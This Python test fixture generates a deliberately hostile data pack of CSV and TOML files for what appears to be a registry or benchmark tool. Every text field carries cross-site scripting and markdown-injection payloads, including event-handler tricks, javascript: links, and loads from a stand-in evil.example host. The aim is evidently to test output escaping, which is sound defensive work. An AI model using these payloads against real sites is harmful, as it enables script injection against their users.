"""A pack whose every text tries to run a script, in each of the ways that have hurt registries before."""

import csv
from pathlib import Path
from typing import Any

# Each calls `alert`, loads from another host, or puts an element into the page that no page of ours has.
PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</script><script>alert(3)</script>",
    '"><script src=https://evil.example/4></script>',
    "<img src=x onerror=alert(5)>",
    "'><img src=https://evil.example/6>",
    "<svg onload=alert(7)>",
    "<svg><animate onbegin=alert(8) attributeName=x>",
    "<details open ontoggle=alert(9)>",
    '" autofocus onfocus="alert(10)',
    "' onmouseover='alert(11)",
    "<iframe srcdoc='<script>alert(12)</script>'>",
    "<iframe src=javascript:alert(13)>",
    "<object data=https://evil.example/14>",
    "<embed src=https://evil.example/15>",
    "<base href=https://evil.example/16/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/17'>",
    "<link rel=stylesheet href=https://evil.example/18>",
    "<style>@import 'https://evil.example/19';</style>",
    "<form action=https://evil.example/20><button>Send",
    "<a href=javascript:alert(21)>21",
    "<math><mtext><img src=x onerror=alert(22)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(23)>'>",
    "<textarea autofocus onfocus=alert(24)>",
    "<body onload=alert(25)>",
    "<video><source onerror=alert(26)>",
    "<!--><img src=x onerror=alert(27)>-->",
    "<![CDATA[<script>alert(28)</script>]]>",
    "&lt;script&gt;alert(29)&lt;/script&gt;",
    "&#60;script&#62;alert(30)&#60;/script&#62;",
    "{{ request.user }}{% debug %}${alert(31)}<%= 31 %>",
    "\u202e<script>alert(32)</script>\u2028",
]
MARKDOWN = [
    "[click](javascript:alert(40))",
    "[click](JaVaScRiPt:alert(41))",
    "[click](data:text/html,<script>alert(42)</script>)",
    "[click](vbscript:alert(43))",
    "![picture](https://evil.example/44.png)",
    '![picture](x"onerror="alert(45))',
    "<javascript:alert(46)>",
    '[click](https://evil.example/47 "\\" onmouseover=\\"alert(47)")',
    "```html\n<script>alert(48)</script>\n```",
    "[note]: javascript:alert(49)\n[note]",
]
NUMBER = 8
ENDED = 2  # the body that is in no edition
LONGEST = 300
ADDRESS = 'https://evil.example/"onmouseover="alert(50)"\'><script>alert(51)</script>'
PACK_TOML = """title = '''Hostile {0}'''
country = "XB"
currency = "GBP"
licence = '''CC0 {1}'''
benchmark_edition = "2026"
base_financial_year = "2025-26"
[deflator]
"2025-26" = 100
[peer_groups.hostile]
label = '''Group {2}'''
driver_unit = '''{3}'''
"""


def short(number: int, word: str, longest: int = LONGEST) -> str:
    """Four attacks a time, so that the eight things of one kind carry all of them; cut as the pack format bids."""
    start = 4 * number % len(PAYLOADS)
    return f"{word} {number} {' '.join(PAYLOADS[start : start + 4])}"[:longest]


def long(word: str) -> str:
    return "\n\n".join([word, *PAYLOADS])


def tables() -> dict[str, list[dict[str, Any]]]:
    """File of the pack: its rows."""
    numbers = range(NUMBER)
    return {
        "organisations.csv": [organisation(number) for number in numbers],
        "functions.csv": [function(number) for number in numbers],
        "components.csv": [component(number) for number in numbers],
        "relations.csv": [
            {"component": f"part-{number}", "relation": "requires", "other": f"part-{number + 1}"}
            for number in numbers[:-1]
        ],
        "standards.csv": [standard(number) for number in numbers],
        "component_standards.csv": [{"component": f"part-{n}", "standard": f"standard-{n}"} for n in numbers],
        "profiles.csv": [profile(number) for number in numbers],
        "operations.csv": [operation(number) for number in numbers],
        "columns.csv": [column(number) for number in numbers],
        "reviews.csv": [review(body, number) for body in numbers for number in numbers[:4]],
        "blueprints.csv": [blueprint(number) for number in numbers],
        "steps.csv": [
            {"step": f"step-{n}", "blueprint": f"pattern-{n}", "number": 1, "verb": "do", "name": short(n, "Step")}
            for n in numbers
        ],
        "slots.csv": [slot(number, purpose) for number in numbers for purpose in ("filled", "wanted")],
        "adoptions.csv": [adoption(body, number) for body in numbers for number in numbers[:4]],
        "duplicates.csv": [duplicate(body, number) for body in numbers for number in numbers[4:]],
        "contributions.csv": [contribution(number) for number in numbers],
        "payments.csv": [payment(body, line) for body in numbers[:2] for line in numbers],
    }


def organisation(number: int) -> dict[str, Any]:
    return {
        "organisation": f"body-{number}",
        "name": short(number, "Body"),
        "type": short(number + 1, "Type", 120),
        "peer_group": "hostile" if number else "",
        "affiliation_group": short(number + 2, "Family", 120),
        "parent": "body-0" if number == 1 else "",
        "start": "2000-04-01",
        "end": "2024-04-01" if number == ENDED else "",
        "successors": "body-3" if number == ENDED else "",
        "identifiers": f"code:{short(number + 3, 'Code', 60).replace(';', ',')}",
        "aliases": short(number + 4, "Alias").replace(";", ","),
        "nation": short(number + 5, "Nation", 120),
        "region": short(number + 6, "Region", 120),
        "homepage": ADDRESS,
        "driver": 100_000,
    }


def function(number: int) -> dict[str, Any]:
    return {
        "function": f"task-{number}",
        "parent": "task-0" if number == 1 else "",
        "name": short(number, "Task"),
        "kind": "service",
        "evolution": "commodity",
        "codes": f"code:{short(number + 1, 'Code', 60).replace(';', ',')}",
    }


def component(number: int) -> dict[str, Any]:
    return {
        "component": f"part-{number}",
        "name": short(number, "Part"),
        "kind": ("service", "dataset", "process")[number % 3],
        "functions": f"task-{number}",
        "summary": long("Summary"),
        "description": "\n\n".join(["Description", *MARKDOWN, *PAYLOADS]),
        **dict.fromkeys(("url", "repository", "documentation"), ADDRESS),
        "licence": ADDRESS if number == 4 else short(number + 1, "Licence"),
        "lifecycle": "deprecated" if number == 5 else "live",
        "successor": "part-6" if number == 5 else "",
        "stewards": f"body-{number}=1",
        "price_per_transaction": "0.1",
        "source": long("Source"),
    }


def standard(number: int) -> dict[str, Any]:
    return {"standard": f"standard-{number}", "name": short(number, "Standard"), "address": f"{ADDRESS}{number}"}


def profile(number: int) -> dict[str, Any]:
    prose = "\n\n".join(["Profile", *MARKDOWN, *PAYLOADS])
    places = ("start_url", "contact_url", "security_url", "accessibility_url", "api_description_url")
    return {
        "component": f"part-{number}",
        **dict.fromkeys(("start", "support", "leaving", "limits"), prose),
        **dict.fromkeys(places, ADDRESS),
        "contact_name": short(number, "Contact"),
        "contact_email": "a'onmouseover='alert(52)'@evil.example",
        "version": short(number, "Version", 120),
        "released_on": "2026-01-31",
        "languages": short(number, "Tongue", 35).replace(";", ","),
        "keywords": short(number, "Word", 120).replace(";", ","),
    }


def operation(number: int) -> dict[str, Any]:
    path = short(number, "/path")
    return {"component": f"part-{number}", "method": "GET", "path": path, "summary": long("Operation")}


def column(number: int) -> dict[str, Any]:
    return {
        "component": f"part-{number}",
        "name": short(number, "Column"),
        "number": 1,
        "type": short(number + 1, "Type", 120),
        "description": long("Column"),
    }


def review(body: int, number: int) -> dict[str, Any]:
    return {
        "organisation": f"body-{body}",
        "component": f"part-{number}",
        "written_on": "2026-01-31",
        "went_well": "\n\n".join(["Review", *MARKDOWN]),
        "blocked": "\n\n".join(["Review", *PAYLOADS[:12]]),
    }


def blueprint(number: int) -> dict[str, Any]:
    return {
        "blueprint": f"pattern-{number}",
        "name": short(number, "Pattern"),
        "kind": "report",
        "summary": long("Summary"),
        "function": f"task-{number}",
        "source": long("Source"),
    }


def slot(number: int, purpose: str) -> dict[str, Any]:
    return {
        "slot": f"{purpose}-{number}",
        "step": f"step-{number}",
        "name": short(number, "Slot"),
        "functions": f"task-{number}",
        "required": 1,
        "kinds": "" if purpose == "filled" else ("dataset", "process", "service")[number % 3],
        "uses_low": 1,
        "uses_high": 2,
    }


def adoption(body: int, number: int) -> dict[str, Any]:
    return {
        "organisation": f"body-{body}",
        "function": f"task-{number}",
        "component": f"part-{number}",
        "stage": "live" if body else "retired",
        "annual_cost": "1000",
        "price_fy": "2025-26",
        "confirmed": "2026-01-31",
        "evidence": "E1",
        "published": "1",
        "source_url": ADDRESS,
    }


def duplicate(body: int, number: int) -> dict[str, Any]:
    return {
        "organisation": f"body-{body}",
        "function": f"task-{number}",
        "system": short(body, "System"),
        "supplier": short(body + 1, "Supplier"),
        "annual_cost": "2000",
        "price_fy": "2025-26",
        "contract_end": "2030-03-31",
        "confirmed": "2026-01-31",
        "evidence": "E1",
        "published": "1",
        "reason": long("Reason"),
        "source_url": ADDRESS,
    }


def contribution(number: int) -> dict[str, Any]:
    return {
        "organisation": f"body-{number}",
        "component": f"part-{number}",
        "made_on": "2026-01-31",
        "units": "1",
        "summary": long("Given"),
        "source_url": ADDRESS,
    }


def payment(body: int, line: int) -> dict[str, Any]:
    return {
        "organisation": f"body-{body}",
        "reference": short(line, "Reference", 200),
        "line": short(line + 1, "Line", 60),
        "paid_on": "2025-12-01",
        "supplier": short(line + 2, "Supplier"),
        "supplier_identifier": short(line + 3, "Number", 200),
        "amount": "750.25",
        "function": f"task-{line}",
        "system": short(line + 4, "System"),
        "category": short(line + 5, "Category"),
        "purpose": long("Purpose"),
        "source_url": ADDRESS,
    }


def write_pack(folder: Path) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "pack.toml").write_text(PACK_TOML.format(*(short(number, "", 110) for number in range(4))))
    for name, rows in tables().items():
        with (folder / name).open("w", newline="") as file:
            writer = csv.DictWriter(file, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return folder
